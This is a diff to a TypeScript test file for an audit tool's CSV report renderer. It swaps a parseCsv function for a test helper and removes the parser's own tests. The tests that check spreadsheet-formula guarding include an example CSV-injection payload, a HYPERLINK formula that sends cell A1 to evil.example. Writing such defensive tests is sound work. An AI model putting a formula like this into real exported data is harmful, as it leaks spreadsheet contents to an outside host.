@@ -5,7 +5,8 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { isCustosError } from '../../../src/errors.js';
-import { csvHeaderLine, csvManifest, csvRowLine, parseCsv, renderCsv, unguardCsvCell } from '../../../src/audit/reports/render-csv.js';
+import { csvHeaderLine, csvManifest, csvRowLine, renderCsv, unguardCsvCell } from '../../../src/audit/reports/render-csv.js';
+import { csvRows } from '../../support/csv-rows.js';
 import { fixtureReport, leafHex, ROWS } from './report-fixture.js';
 
 const report = fixtureReport();
@@ -13,7 +14,7 @@ const KEYS = ['date', 'recipient', 'recipientName', 'organization', 'organizatio
 
 describe('renderCsv (RFC 4180)', () => {
   it('starts with the header line of column keys, then the evidence columns, and has one record per row', () => {
-    const records = parseCsv(renderCsv(report));
+    const records = csvRows(renderCsv(report));
     assert.deepEqual(records[0], [...KEYS, 'events', 'leaf_hashes', 'proofs', 'checkpoint']);
     assert.equal(records.length, 1 + ROWS.length);
     for (const r of records) assert.equal(r.length, KEYS.length + 4);
@@ -31,7 +32,7 @@ describe('renderCsv (RFC 4180)', () => {
   });
 
   it('round-trips commas, quotes, line breaks and non-Latin-1 text exactly', () => {
-    const [, first] = parseCsv(renderCsv(report));
+    const [, first] = csvRows(renderCsv(report));
     const cell = (k: string) => first![KEYS.indexOf(k)];
     assert.equal(cell('organizationName'), 'St. Mary\'s, "North" Clinic');
     assert.equal(cell('description'), 'Observation (1)\r\nCondition (1)');
@@ -40,7 +41,7 @@ describe('renderCsv (RFC 4180)', () => {
   });
 
   it('guards cells a spreadsheet would evaluate (= + - @ TAB, and a leading apostrophe) with one leading apostrophe', () => {
-    const [, , second, third] = parseCsv(renderCsv(report));
+    const [, , second, third] = csvRows(renderCsv(report));
     const cell = (row: string[] | undefined, k: string) => row![KEYS.indexOf(k)]!;
     assert.equal(cell(second, 'recipient'), '\'=HYPERLINK("http://evil.example/?d="&A1,"click")');
     assert.equal(cell(second, 'organization'), "'@SUM(A1:A9)");
@@ -58,7 +59,7 @@ describe('renderCsv (RFC 4180)', () => {
   });
 
   it('lists each row\'s log entries and their RFC 9162 leaf hashes, ;-separated', () => {
-    const records = parseCsv(renderCsv(report));
+    const records = csvRows(renderCsv(report));
     const at = KEYS.length;
     assert.deepEqual(records.slice(1).map((r) => r[at]), ['1', '3;4', '6']);
     assert.equal(records[2]![at + 1], `${leafHex(3)};${leafHex(4)}`);
@@ -69,7 +70,7 @@ describe('renderCsv (RFC 4180)', () => {
     assert.equal(csvHeaderLine(report) + report.rows.map((r) => csvRowLine(report, r)).join(''), renderCsv(report));
     const empty = fixtureReport({ rows: [], evidence: [] });
     assert.equal(renderCsv(empty), csvHeaderLine(empty));
-    assert.equal(parseCsv(renderCsv(empty)).length, 1);
+    assert.equal(csvRows(renderCsv(empty)).length, 1);
   });
 
   it('refuses a row whose evidence the report does not carry (INTERNAL)', () => {
@@ -97,23 +98,5 @@ describe('csvManifest', () => {
     const m = JSON.parse(csvManifest(fixtureReport({ checkpoint: null, rows: [], evidence: [], unanchored: 5 }))) as Record<string, unknown>;
     assert.equal(m['checkpoint'], null);
     assert.equal(m['provenEvents'], 0);
-  });
-});
-
-describe('parseCsv', () => {
-  it('reads RFC 4180: quoted fields, doubled quotes, CRLF or LF, empty fields, no final line end, a BOM', () => {
-    assert.deepEqual(parseCsv('a,b\r\n"x,""y""",\r\n'), [['a', 'b'], ['x,"y"', '']]);
-    assert.deepEqual(parseCsv('\uFEFFa,"multi\nline"\nc,d'), [['a', 'multi\nline'], ['c', 'd']]);
-    assert.deepEqual(parseCsv('""'), [['']]);
-    assert.deepEqual(parseCsv(',\r\n'), [['', '']]);
-    assert.deepEqual(parseCsv(''), []);
-  });
-
-  it('refuses malformed input with the line number (INVALID_REQUEST)', () => {
-    const refuses = (text: string, why: RegExp) =>
-      assert.throws(() => parseCsv(text), (e: unknown) => isCustosError(e) && e.code === 'INVALID_REQUEST' && why.test(e.message));
-    refuses('a,b\r\nc,"open\r\n', /line 2: a quoted field is never closed/);
-    refuses('a,b"c\r\n', /line 1: a quote inside an unquoted field/);
-    refuses('a\r\n"x"y,z\r\n', /line 2: text after a closing quote/);
   });
 });
